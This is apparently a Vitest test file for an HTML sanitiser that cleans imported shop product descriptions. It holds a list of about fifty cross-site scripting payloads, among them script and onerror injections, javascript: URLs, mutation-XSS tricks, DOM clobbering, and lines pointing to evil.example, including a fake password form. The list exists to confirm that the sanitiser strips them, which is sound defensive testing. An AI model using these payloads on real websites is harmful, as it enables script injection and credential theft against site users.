// @vitest-environment jsdom
import { describe, expect, it } from "vitest";

import { safeDescription } from "../../../app/catalog/import/safe-description.ts";

describe("safeDescription", () => {
  it.each([
    ["", ""],
    ["Plain text", "Plain text"],
    [
      "<p><strong>Becher</strong> – schön &amp; gut.</p><ul><li>Eins</li></ul>",
      "<p><strong>Becher</strong> – schön &amp; gut.</p><ul><li>Eins</li></ul>",
    ],
    ["<P CLASS=x>a<BR/>b</P>", "<p>a<br />b</p>"],
    ["<b>fat</b> <i>lean</i> <h1>Big</h1>", "<strong>fat</strong> <em>lean</em> <h2>Big</h2>"],
    ["Müller & Söhne &copy; &#169;", "Müller &amp; Söhne © ©"],
    ["1 < 2 > 0", "1 &lt; 2 &gt; 0"],
    ["<a href='https://example.com'>link</a>", "link"],
  ])("keeps harmless parts of %j", (html, safe) => {
    expect(safeDescription(html)).toBe(safe);
  });

  it.each([
    ["<p>open", "<p>open</p>"],
    ["<ul><li>a<li>b</ul>c", "<ul><li>a</li><li>b</li></ul>c"],
    ["</div>late", "late"],
    ["<p><em>x</p>y</em>", "<p><em>x</em></p>y"],
  ])("repairs unclosed and misplaced tags in %j", (html, safe) => {
    expect(safeDescription(html)).toBe(safe);
  });
});

const HOSTILE = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example></SCRIPT>",
  "<script>never closed",
  "<scr<script></script>ipt>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<image src=x onerror=alert(1)>",
  '<p onclick="alert(1)" style="x">text</p>',
  "<p style=\"background:image-set('https://evil.example/a' 1x)\">text</p>",
  "<div style='position:fixed;inset:0'>over everything</div>",
  "<svg onload=alert(1)>",
  "<svg><p><style><img src=x onerror=alert(1)></svg>",
  "<svg><animate href='#a' attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>",
  "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe><img src=x onerror=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  "<a href='&#106;avascript:alert(1)'>x</a>",
  "<p title='>'><img src=x onerror=alert(1)>'>x",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!-- --!><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "<p/onmouseover=alert(1)>x",
  "<p\nonmouseover=alert(1)\n>x",
  "<\0script>alert(1)</script>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href='https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/a.css'>",
  "<style>@import 'https://evil.example/a.css'; p{color:red}</style>",
  "<style><img src=x onerror=alert(1)>",
  "<object data=x></object><embed src=x><form action=x><input></form>",
  "<form action='https://evil.example'><input name=password><button>Sign in</button></form>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><script>alert(1)</script></template>",
  "<textarea></textarea/><img src=x onerror=alert(1)></textarea>",
  "<title></title/><img src=x onerror=alert(1)></title>",
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<noembed><img src=x onerror=alert(1)></noembed>",
  "<plaintext><script>alert(1)</script>",
  "<select><option><img src=x onerror=alert(1)></select>",
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<table background=javascript:alert(1)><td background=x>a",
  "<p id=location name=cookie>clobbered</p>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<x-widget onfocus=alert(1) tabindex=1 autofocus>",
  "{{constructor.constructor('alert(1)')()}}<p v-html=\"'<script>'\">",
];

describe("a hostile description", () => {
  it.each(HOSTILE)("is reduced to harmless elements without attributes: %j", (html) => {
    // The description inside a shop's page.
    const { body } = new DOMParser().parseFromString(
      `<main>${safeDescription(html)}</main><aside>`,
      "text/html",
    );
    const elements = [...body.querySelectorAll("*")];
    for (const { nodeName } of elements)
      expect(nodeName).toMatch(/^(MAIN|ASIDE|P|DIV|STRONG|EM|UL|LI|BR|TABLE|TBODY|TR|TD)$/);
    expect(elements.flatMap(({ attributes }) => [...attributes])).toEqual([]);
    // Elements around it stay in place.
    expect([...body.children].map(({ nodeName }) => nodeName)).toEqual(["MAIN", "ASIDE"]);
  });

  it.each(["<div>", "<b><i>", "<svg>", "<table><tr><td>"])("is dropped if it nests %s too deeply", (tag) => {
    expect(safeDescription(tag.repeat(200_000 / tag.length))).toBe("");
  });
});
